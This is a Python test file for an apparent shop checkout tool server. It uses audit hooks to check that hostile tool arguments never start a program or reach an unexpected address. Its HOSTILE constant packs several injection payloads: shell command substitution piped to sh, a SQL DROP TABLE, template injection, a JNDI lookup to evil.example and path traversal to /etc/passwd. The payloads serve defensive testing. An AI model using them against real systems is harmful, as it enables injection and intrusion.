"""What a model writes is never run, and leads the server nowhere."""

import sys
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest

from orders import ORDER

HOSTILE = "$(id); `id` | sh && '; DROP TABLE previews; -- {{7*7}} ${jndi:ldap://evil.example/a} ../../etc/passwd"
ELSEWHERE = "https://metadata.example/latest?x="
_PROGRAMS = ("subprocess.", "os.system", "os.exec", "os.spawn", "os.posix_spawn", "os.fork")
_ADDRESSES = ("socket.connect", "socket.getaddrinfo")

_watching: list[list[tuple[str, Any]]] = []
"""Where what happens is written down; hooks of Python cannot be taken away."""


def _hook(event: str, arguments: tuple[Any, ...]) -> None:
    if _watching and event.startswith((*_PROGRAMS, *_ADDRESSES)):
        _watching[-1].append((event, arguments))


sys.addaudithook(_hook)


@contextmanager
def watched() -> Iterator[list[tuple[str, Any]]]:
    """What starts a program or goes to an address meanwhile."""
    seen: list[tuple[str, Any]] = []
    _watching.append(seen)
    try:
        yield seen
    finally:
        _watching.remove(seen)


def addresses(seen: list[tuple[str, Any]]) -> set[Any]:
    connected = {arguments[1][:2] for event, arguments in seen if event == "socket.connect"}
    return connected | {arguments[:2] for event, arguments in seen if event == "socket.getaddrinfo"}


@pytest.mark.requirement("error.no_command")
async def test_no_argument_starts_a_program_or_leads_to_an_address(open_memory_shop: Any) -> None:
    async with open_memory_shop() as shop:
        host, _, port = shop.upstream.url.removeprefix("http://").partition(":")
        calls: list[tuple[str, dict[str, Any]]] = [
            ("list_products", {"query": HOSTILE, "locale": HOSTILE}),
            ("preview_checkout", ORDER | {"customer_business_name": HOSTILE, "tax_id": HOSTILE[:20]}),
            ("preview_checkout", {"product_cart": HOSTILE, "product_collection_id": HOSTILE}),
            ("get_checkout_session", {"session_id": HOSTILE}),
        ]
        with watched() as seen:
            for tool, arguments in calls:
                await shop.client.call_tool(tool, arguments)
            sold = await shop.call(
                "create_checkout_session",
                {
                    "preview_id": await shop.preview_id(customer_business_name=HOSTILE),
                    "customer": {"email": "jane@example.com", "name": HOSTILE},
                    "metadata": {"note": HOSTILE},
                    "custom_fields": [{"field_type": "text", "key": "note", "label": HOSTILE}],
                    "return_url": ELSEWHERE,
                    "cancel_url": f"{ELSEWHERE}no",
                },
            )
            await shop.call("get_checkout_session", {"session_id": sold["session_id"]})
    assert addresses(seen) == {(host, int(port))}
    assert [event for event, _ in seen if event.startswith(_PROGRAMS)] == []
    assert shop.upstream.created[-1]["customer"]["name"] == HOSTILE, "it arrives as it was written"


@pytest.mark.requirement("error.no_command")
def test_a_program_that_is_started_is_noticed() -> None:
    """Otherwise the test above would prove nothing."""
    import os

    with watched() as seen:
        os.system("true")  # noqa: S605 - what the test looks for
    assert [event for event, _ in seen] == ["os.system"]
